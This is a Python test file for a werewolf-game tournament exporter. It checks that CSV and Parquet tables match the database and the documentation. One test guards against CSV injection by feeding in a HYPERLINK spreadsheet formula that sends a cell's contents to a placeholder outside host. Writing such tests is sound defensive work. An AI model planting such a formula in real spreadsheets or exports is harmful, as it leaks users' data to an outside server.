"""werewolf export --format csv|parquet: tidy tables from a tournament database or a
folder of transcripts, with the documented columns, agreeing with the database."""

from __future__ import annotations

import json
import re
import sqlite3
from pathlib import Path

import pytest

pd = pytest.importorskip("pandas")
pytest.importorskip("pyarrow")

from arena.cli import main  # noqa: E402
from arena.export import TABLES, export, tables  # noqa: E402
from arena.tournament.config import config_from_data  # noqa: E402
from arena.tournament.run import run_tournament  # noqa: E402

BOTS = [{"name": "Heuristic", "agent": "heuristic"}, {"name": "Random", "agent": "random"}]
DOCS = Path(__file__).resolve().parents[1] / "docs" / "EXPORT.md"


@pytest.fixture(scope="module")
def tournament(tmp_path_factory) -> Path:
    db = tmp_path_factory.mktemp("export") / "t.sqlite"
    data = {"name": "t", "seed": 5, "games": 6, "beliefs": True, "participants": BOTS,
            "tables": [{"players": 8}, {"preset": "best_of", "players": 10}]}  # fmt: skip
    run_tournament(config_from_data(data), db, progress=False)
    return db


def test_csv_and_parquet_hold_the_same_typed_tables(tournament, tmp_path):
    counts = export(tournament, "csv", tmp_path / "csv")
    assert counts == export(tournament, "parquet", tmp_path / "pq")
    assert counts["games"] == 6 and all(counts[t] > 0 for t in ("seats", "decisions", "votes", "claims", "beliefs", "deaths"))
    for name, cols in TABLES.items():
        pq = pd.read_parquet(tmp_path / "pq" / f"{name}.parquet")
        assert list(pq.columns) == list(cols)
        assert {c: str(t) for c, t in pq.dtypes.items()} == cols  # types survive the file
        csv = pd.read_csv(tmp_path / "csv" / f"{name}.csv", dtype=str, keep_default_na=False)
        assert list(csv.columns) == list(cols) and len(csv) == len(pq)


def test_tables_agree_with_the_database(tournament):
    t = tables(tournament)
    con = sqlite3.connect(tournament)
    db_games = dict(con.execute("SELECT id, winner FROM games").fetchall())
    assert dict(zip(t["games"].game_id, t["games"].winner)) == db_games
    db_seats = {(g, n): (p, r, bool(w)) for g, n, p, r, w in con.execute("SELECT game_id, name, participant, role, won FROM seats")}
    seats = t["seats"]
    assert {(g, n): (p, r, bool(w)) for g, n, p, r, w in zip(seats.game_id, seats.name, seats.participant, seats.role, seats.won)} == db_seats
    assert t["games"].tournament_idx.notna().all()
    # Each seat's decisions are the transcript's answers; each day vote is a decision.
    per_seat = t["decisions"].groupby(["game_id", "seat"]).size()
    assert (seats.set_index(["game_id", "name"]).decisions == per_seat.reindex(seats.set_index(["game_id", "name"]).index, fill_value=0)).all()
    votes = t["votes"]
    assert set(votes.decision[votes.game_id == "g00000"]) <= set(t["decisions"].decision[t["decisions"].game_id == "g00000"])
    # A vote's truth is the one of its moment; a wolf's ballot on a wolf is rare but possible.
    assert votes.voter_wolf.notna().all() and (votes.chance_wolf.dropna().between(0, 1)).all()


def test_a_folder_of_transcripts_gives_the_same_rows(tournament, tmp_path):
    folder = tournament.parent / "t_transcripts"
    from_db, from_dir = tables(tournament), tables(folder)
    for name in ("decisions", "votes", "claims", "beliefs", "deaths"):
        a = from_db[name].reset_index(drop=True)
        b = from_dir[name].reset_index(drop=True)
        pd.testing.assert_frame_equal(a.drop(columns=["participant"], errors="ignore"), b.drop(columns=["participant"], errors="ignore"))
    assert from_dir["games"].tournament_idx.isna().all()


def test_claims_are_the_deception_metrics_verdicts(tournament):
    from arena.metrics.deception import claims
    from arena.metrics.load import load_transcript

    t = tables(tournament)["claims"]
    path = tournament.parent / "t_transcripts" / "g00001.jsonl"
    judged = claims(load_transcript(path))
    mine = t[t.game_id == "g00001"]
    assert list(mine.lie) == [c["lie"] for c in judged] and list(mine.kind) == [c["kind"] for c in judged]


def test_the_command_and_its_errors(tournament, tmp_path, capsys):
    out = tmp_path / "out"
    assert main(["export", str(tournament), "--format", "csv", "--out", str(out)]) == 0
    assert "wrote 9 tables" in capsys.readouterr().out
    assert sorted(p.name for p in out.iterdir()) == sorted(f"{n}.csv" for n in TABLES)
    assert main(["export", str(tmp_path / "none"), "--format", "csv", "--out", str(out)]) == 2
    assert "no such database, folder or transcript" in capsys.readouterr().err
    assert main(["export", str(tournament), "--format", "csv"]) == 2
    assert "--out" in capsys.readouterr().err
    empty = tmp_path / "empty"
    empty.mkdir()
    assert main(["export", str(empty), "--format", "parquet", "--out", str(out)]) == 2
    assert "no transcripts" in capsys.readouterr().err
    bad = empty / "bad.jsonl"
    bad.write_text('{"type": "event"}\n')
    assert main(["export", str(empty), "--format", "csv", "--out", str(out)]) == 2
    assert "bad.jsonl" in capsys.readouterr().err


def test_a_model_seats_calls_are_exported_without_prompts(tmp_path, monkeypatch):
    from llm_standins import OpenAIStandIn, reset_llm_state, set_fake_keys, standin_router

    set_fake_keys(monkeypatch)
    reset_llm_state()
    data = {"name": "m", "seed": 1, "games": 1, "seating": "teams", "tables": [{"players": 5, "options": {"sheriff": False}}],
            "participants": [{"name": "Mini", "agent": "openai:gpt-5.4-mini", "options": {"max_retries": 0, "timeout": 5}}, BOTS[0]]}  # fmt: skip
    db = tmp_path / "m.sqlite"
    try:
        with standin_router() as router:
            OpenAIStandIn(router)
            run_tournament(config_from_data(data), db, progress=False)
    finally:
        reset_llm_state()
    t = tables(db)
    calls = t["calls"]
    assert len(calls) > 0 and set(calls.participant) == {"Mini"} and calls.model.eq("gpt-5.4-mini").all()
    assert calls.input_tokens.sum() == t["games"].input_tokens.sum()
    assert "messages" not in calls.columns
    mini = t["seats"][t["seats"].participant == "Mini"]
    assert mini.calls.sum() == len(calls[calls.input_tokens.notna()]) and (mini.model == "gpt-5.4-mini").all()
    # A call, in every table, is a row with ``request``: a request sent (``transcripts.call_counts``).
    assert mini.calls.sum() == calls.request.sum() == t["games"].calls.sum() and str(calls.request.dtype) == "boolean"
    assert "sk-" not in json.dumps(t["calls"].astype(str).to_dict())


def test_csv_cells_a_spreadsheet_would_run_get_a_quote_and_parquet_stays_exact(tmp_path):
    """OWASP "CSV Injection": a cell that begins with =, +, - or @ (or a tab, a carriage
    return, NUL) is run as a formula by a spreadsheet; such a cell gets a leading quote
    in CSV, and so does a cell that already begins with one, so that dropping it restores
    the text. Parquet keeps the exact text."""
    import csv

    from arena.export.spreadsheet import TRIGGERS, restored
    from arena.gamefile import GameSpec, SeatSpec
    from transcript_tools import play_to_file

    formula = '=HYPERLINK("http://example.invalid/?"&A1,"x")'
    seats = [
        SeatSpec(name="-Eve", role="werewolf", agent="scripted", answers={"wolf_kill": ["@Ann"], "vote": ["Cat"]}),
        SeatSpec(name="@Ann", role="villager", agent="scripted"),
        SeatSpec(name="Bob", role="seer", agent="scripted", answers={"seer_check": ["-Eve"], "speak": [formula], "vote": ["-Eve"]}),
        SeatSpec(name="Cat", role="villager", agent="scripted", answers={"speak": ["+1 for Bob"], "vote": ["-Eve"]}),
        SeatSpec(name="'Dee", role="villager", agent="scripted", answers={"speak": ["'=quoted already"], "vote": ["-Eve"]}),
    ]
    folder = tmp_path / "games"
    folder.mkdir()
    play_to_file(GameSpec(seed=3, options={"sheriff": False}, seats=seats), folder / "g.jsonl")
    export(folder, "csv", tmp_path / "csv")
    export(folder, "parquet", tmp_path / "pq")
    quoted = 0
    for name, cols in TABLES.items():
        exact = pd.read_parquet(tmp_path / "pq" / f"{name}.parquet")
        with open(tmp_path / "csv" / f"{name}.csv", newline="", encoding="utf-8") as f:
            rows = list(csv.DictReader(f))
        assert len(rows) == len(exact)
        for col in (c for c, t in cols.items() if t == "string"):
            for cell, value in zip((r[col] for r in rows), exact[col]):
                assert not cell.startswith(TRIGGERS), (name, col, cell)
                if pd.isna(value):
                    assert cell == ""
                    continue
                assert restored(cell) == value and (cell != value) == value.startswith((*TRIGGERS, "'"))
                quoted += cell != value
    decisions = pd.read_parquet(tmp_path / "pq" / "decisions.parquet")
    assert formula in set(decisions.answer) and "-Eve" in set(decisions.target)
    deaths = pd.read_parquet(tmp_path / "pq" / "deaths.parquet")
    assert list(deaths.player) == ["@Ann", "-Eve"]
    assert quoted >= 10  # names in several tables, the speeches
    assert list(tables(folder)["deaths"].player) == ["@Ann", "-Eve"]  # the DataFrames are exact too


def test_every_column_is_documented():
    text = DOCS.read_text(encoding="utf-8")
    for name, cols in TABLES.items():
        section = re.search(rf"^### `{name}`\n(.*?)(?=^### |\Z)", text, re.S | re.M)
        assert section, f"docs/EXPORT.md has no section for {name}"
        documented = set(re.findall(r"^\| `([a-z_]+)` \|", section.group(1), re.M))
        assert documented == set(cols), f"{name}: {set(cols) ^ documented}"
